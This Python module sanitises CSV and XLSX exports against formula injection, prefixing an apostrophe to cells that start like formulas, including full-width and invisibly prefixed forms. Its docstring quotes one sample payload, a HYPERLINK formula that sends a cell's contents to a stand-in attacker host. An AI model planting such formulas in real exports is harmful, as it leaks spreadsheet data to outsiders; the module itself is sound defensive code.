"""The one way the platform writes a spreadsheet cell: every CSV and XLSX file goes through here.

A spreadsheet runs a cell as a formula when its text starts with ``=``, and Excel, LibreOffice
and Google Sheets also when it starts with ``+``, ``-`` or ``@``. A comment, a display name or a
proposal title such as ``=HYPERLINK("http://evil.example/?x="&A1,"Klicka")`` would then become a
live link or a command in the official's spreadsheet (CSV injection, OWASP). :func:`cell` writes
such text with a leading apostrophe, the OWASP advice; the text is still all there to read.

What counts as the start of a formula:

- ``=``, ``+``, ``-``, ``@``, and their full-width forms ``＝ ＋ － ＠``, which Excel in Japanese,
  Chinese and Korean locales converts to the ASCII ones as it reads the cell;
- those characters after leading whitespace, control or invisible characters (a space, a newline,
  a no-break space, a zero-width space, a byte-order mark): some spreadsheets and CSV importers
  trim them before deciding;
- a tab or a carriage return as the very first character (OWASP lists both: an importer may
  read them as a separator and start a new cell with what follows).

Numbers stay numbers. Text that is only a plain number — an optional ASCII sign, ASCII digits,
at most one decimal point or comma, an optional exponent: ``-5``, ``+5``, ``-0,25``, ``-1E-7`` —
is left alone even though it starts with ``+`` or ``-``: it holds no letters, so it cannot name a
function or a cell, and a spreadsheet reads it as the number it is. Anything more is text and
gets the apostrophe when it starts like a formula: ``+46 70 123 45 67`` (a spreadsheet would
read the spaces as its intersection operator and show an error, not the phone number), ``-5 %``,
``-1 000``. Values that are not text (int, float, Decimal, dates, None) are never changed.

The module imports nothing from Django, so the pure modules (``opinionmaps.polisdata``) use it
too. Use :func:`writer` or :class:`DictWriter` in place of ``csv.writer`` and
``csv.DictWriter``, and :func:`append_row` in place of ``Worksheet.append`` (openpyxl stores a
text starting with ``=`` as a formula).
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Collection, Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite
    from openpyxl.worksheet.worksheet import Worksheet

# First characters (after anything invisible) that make a spreadsheet read a formula.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# First characters that OWASP asks to neutralise as they are.
SEPARATOR_STARTS = frozenset("\t\r")
# Text that is only a number: nothing in it can be a function, a name or a reference.
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?(?:[eE][+-]?[0-9]+)?")
# Unicode categories skipped before the first visible character: controls and format
# characters (zero-width space, byte-order mark …); whitespace is skipped too.
_INVISIBLE_CATEGORIES = frozenset({"Cc", "Cf"})


def _first_visible(text: str) -> int:
    for index, char in enumerate(text):
        if not (char.isspace() or unicodedata.category(char) in _INVISIBLE_CATEGORIES):
            return index
    return len(text)


def is_formula(value: Any) -> bool:
    """Whether a spreadsheet could run ``value`` as a formula (see the module docstring)."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in SEPARATOR_STARTS:
        return True
    rest = value[_first_visible(value) :]
    return rest[:1] in FORMULA_STARTS and not PLAIN_NUMBER.fullmatch(rest)


def cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell: formula-like text gets a leading
    apostrophe, everything else is returned unchanged."""
    return "'" + value if is_formula(value) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` that passes every cell through :func:`cell`."""

    def __init__(self, out: SupportsWrite[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: SupportsWrite[str], **fmtparams: Any) -> SafeWriter:
    """A CSV writer for anything the platform exports; same arguments as ``csv.writer``."""
    return SafeWriter(out, **fmtparams)


class DictWriter:
    """``csv.DictWriter`` that passes every cell, the header too, through :func:`cell`."""

    def __init__(self, out: SupportsWrite[str], fieldnames: Collection[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(out, self.fieldnames, **kwargs)

    def writeheader(self) -> Any:
        return self._writer.writerow({name: cell(name) for name in self.fieldnames})

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def append_row(sheet: Worksheet, row: Iterable[Any]) -> None:
    """``sheet.append(row)`` with every cell through :func:`cell`, so that no text becomes an
    openpyxl formula and the XLSX reads as the CSV does."""
    sheet.append(safe_row(row))
